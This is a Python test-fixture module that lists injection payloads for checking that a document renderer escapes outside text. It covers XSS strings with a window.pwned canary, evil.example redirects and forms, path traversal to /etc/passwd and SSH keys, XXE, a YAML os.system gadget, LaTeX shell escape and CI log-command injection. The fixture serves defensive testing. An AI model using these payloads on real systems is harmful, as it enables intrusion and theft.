"""What strangers may write: each payload goes into every place that a text from outside has.

All wording is our own. A payload that would run says so to the browser: it sets ``window.pwned``.
"""

from __future__ import annotations

from typing import Final

ELEMENTS: Final = (
    "<script>window.pwned=1</script>",
    "<ScRiPt>window.pwned=1</sCrIpT>",
    "<script/x>window.pwned=1</script>",
    "<script\x0c>window.pwned=1</script>",
    "<<script>window.pwned=1//<</script>",
    "</title><script>window.pwned=1</script>",
    "</p></div></article><script>window.pwned=1</script>",
    "--><script>window.pwned=1</script><!--",
    "]]><script>window.pwned=1</script>",
    "</style><script>window.pwned=1</script>",
    "</textarea><script>window.pwned=1</script>",
    "</noscript><script>window.pwned=1</script>",
    "</template><img src=x onerror=window.pwned=1>",
    "<img src=x onerror=window.pwned=1>",
    "<img/src=x/onerror=window.pwned=1>",
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "<math><mi xlink:href='javascript:window.pwned=1'>m</mi></math>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<object data='javascript:window.pwned=1'></object>",
    "<embed src='javascript:window.pwned=1'>",
    "<details open ontoggle=window.pwned=1>",
    "<video><source onerror=window.pwned=1></video>",
    "<input autofocus onfocus=window.pwned=1>",
    "<form action='https://evil.example'><button>send</button></form>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    "<plaintext>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "<?php window.pwned=1 ?>",
    "<a href='https://evil.example'>a link</a>",
    "<b id=p1 class=brief-number>a number</b>",
)

ATTRIBUTES: Final = (
    '" onmouseover="window.pwned=1',
    "' onmouseover='window.pwned=1",
    '" autofocus onfocus=window.pwned=1 x="',
    "` onmouseover=`window.pwned=1",
    '" style="position:fixed;inset:0;background:url(https://evil.example)',
    '"><img src=x onerror=window.pwned=1>',
    "'><img src=x onerror=window.pwned=1>",
    "&quot; onclick=&quot;window.pwned=1",
    "&#34; onclick=&#34;window.pwned=1",
    '" data-hint="forged',
    '" href="javascript:window.pwned=1',
    '\\" onclick=\\"window.pwned=1',
)

ADDRESSES: Final = (
    "javascript:window.pwned=1",
    "JaVaScRiPt:window.pwned=1",
    "java\tscript:window.pwned=1",
    "\x01javascript:window.pwned=1",
    "javascript&colon;window.pwned=1",
    "data:text/html,<script>window.pwned=1</script>",
    "vbscript:window.pwned=1",
    "file:///etc/passwd",
    "//evil.example/x",
    "https://good.example@evil.example/x",
    "https://evil.example\\@good.example/",
    "https://[",
    "https://exa mple.org/",
    "http:evil.example",
    "mailto:jane@evil.example?subject=x",
    "[a link](javascript:window.pwned=1)",
    "[a link](data:text/html;base64,PHNjcmlwdD4=)",
    "<javascript:window.pwned=1>",
    "![an image](https://evil.example/x.png)",
    "![an image](x.png 'onerror=window.pwned=1')",
    "[a definition]: https://evil.example",
    "[a file](../../../../etc/passwd)",
)

MYST: Final = (
    "{include}`/etc/passwd`",
    "{download}`/etc/passwd`",
    "{raw}`<script>window.pwned=1</script>`",
    "{eval-rst}`x`",
    "{term}`NATO`",
    "{doc}`/index`",
    "{ref}`search`",
    "{numref}`x`",
    "{cite}`nobody`",
    "{math}`\\input{/etc/passwd}`",
    "{abbr}`A (forged)`",
    "{brief:date}`1 <2001-01-01 by forged>`",
    "{brief:p}`99`",
    "{brief:block}`title`",
    ":::{raw} html",
    "```{raw} html",
    ":::{include} /etc/passwd",
    ":::{brief:attribution}",
    ":::{brief:provenance}",
    "::::::::::::::::::::::",
    "```{code-cell} python",
    "~~~{literalinclude} /etc/passwd",
    "````",
    "% a comment",
    '+++ {"break": 1}',
    "(a-target)=",
    "[words]{.annotated .note-1 .last-piece}",
    "[words]{.quotation onclick=window.pwned=1}",
    "{.class #p1 onclick=window.pwned=1}",
    "{{ config.author }}",
    "{% for x in config %}",
    "$\\href{javascript:window.pwned=1}{x}$",
    "\\begin{equation}x\\end{equation}",
    "[^note] and [^note]: words",
    "x` <javascript:window.pwned=1>`",
    "`x <javascript:window.pwned=1>`_",
    "!NATO",
    "~NATO",
    "NATO <OSCE>",
    ".. raw:: html",
    "|substitution|",
    "`` `x` ``",
    "\\",
)

MARKDOWN: Final = (
    "# A heading",
    "> A quotation",
    "- [ ] a task",
    "1. a number",
    "---",
    "***",
    "| a | b |",
    "===",
    "***strong*** __strong__ ~~gone~~ ^up^ ~down~",
    "a\u2028# b",
    "a\u2029- b",
    "a\x0b- b\x0c# c",
    "a\x1cb\x1dc\x1ed",
    "a\x85:::{raw} html\x85<b>c</b>\x85:::",
    "a\rb",
    "&lt;script&gt; &amp; &#60; &#x3c; &colon;",
)

DATA: Final = (
    "---\nmyst: {enable_extensions: [html_image]}\n---",
    "x: {y: &a [*a]}",
    "!!python/object/apply:os.system ['true']",
    "key: value # comment",
    "'single' \"double\" \\x41 \\u0041",
    '"""',
    "'''",
    "]\nextra = 1\n[",
    "\ufeffdate 2001-01-01",
    " date 2001-01-01 ",
    "; --",
    "%s %d %(x)s {0} {x!r}",
    "\\g<0> \\1 $1",
)

LATEX: Final = (
    "\\input{/etc/passwd}",
    "\\include{/etc/passwd}",
    "\\write18{true}",
    "\\immediate\\write18{true}",
    "\\href{javascript:window.pwned=1}{words}",
    "\\url{javascript:window.pwned=1}",
    "\\end{document}",
    "\\catcode`\\@=11",
    "\\def\\x{y}\\x",
    "\\csname input\\endcsname{/etc/passwd}",
    "^^5cinput{/etc/passwd}",
    "}{}{",
    "{unbalanced",
    "unbalanced}",
    "@misc{forged, title={x}}",
    "100% & #1 _ ~ ^ $",
    "\\verb|x|",
    "\\openout",
)

TYPST: Final = (
    '#read("/etc/passwd")',
    '#image("/etc/passwd")',
    '#import "/etc/passwd": *',
    '"); read("/etc/passwd") //',
    '#link("javascript:window.pwned=1")[words]',
    '#eval("1")',
    "*strong* _emph_ `raw` $x$ <label> @reference",
    "/* comment */ // comment",
    "#set page(width: 1pt)",
    "\\u{202e}",
    "#metadata(1) <forged>",
)

CHARACTERS: Final = (
    "nul\x00nul",
    "esc\x1b[31mred\x1b[0m",
    "bell\x07 and backspace\x08",
    "del\x7f and csi\x9b31m",
    "\u202egnp.exe\u202c",
    "\u2066isolated\u2069",
    "\u200f\u061cmarks of Arabic\u200e",
    "zero\u200bwidth\u200djoin\ufeff",
    "tags\U000e0073\U000e0063\U000e0072",
    "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f",
    "\ufffe\uffff\U0001fffe",
    "\u115f\u3164",
    "\ufff9ruby\ufffatext\ufffb",
    "e\u0301\u0301\u0301\u0301\u0301",
    "\ue000title of this article\ue000",
    "\u0130\u0131\u017f\ufb01",
)

SCRIPTS: Final = (
    "</script><script>window.pwned=1</script>",
    "'-(window.pwned=1)-'",
    '"-(window.pwned=1)-"',
    "${window.pwned=1}",
    "`${window.pwned=1}`",
    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
    "*/window.pwned=1/*",
    "constructor __proto__ toString",
)

LOGS: Final = (
    "::add-mask::words",
    "::error file=x::words",
    "##[command]words",
    "##vso[task.setvariable variable=x]y",
    "\r\n::set-output name=x::y",
    "\x1b]0;title\x07",
)

PATHS: Final = (
    "../../../etc/passwd",
    "/etc/passwd",
    "C:\\Windows\\win.ini",
    "..%2f..%2fetc%2fpasswd",
    "con",
    "index",
    "~/.ssh/id_rsa",
)

PAYLOADS: Final = (
    *ELEMENTS, *ATTRIBUTES, *ADDRESSES, *MYST, *MARKDOWN, *DATA, *LATEX, *TYPST, *CHARACTERS,
    *SCRIPTS, *LOGS, *PATHS,
)  # fmt: skip


def benign(payload: str) -> str:
    """Words in a payload's stead, for the twin: as many as it has, and none that mean anything."""
    return f"plain words {PAYLOADS.index(payload)}"
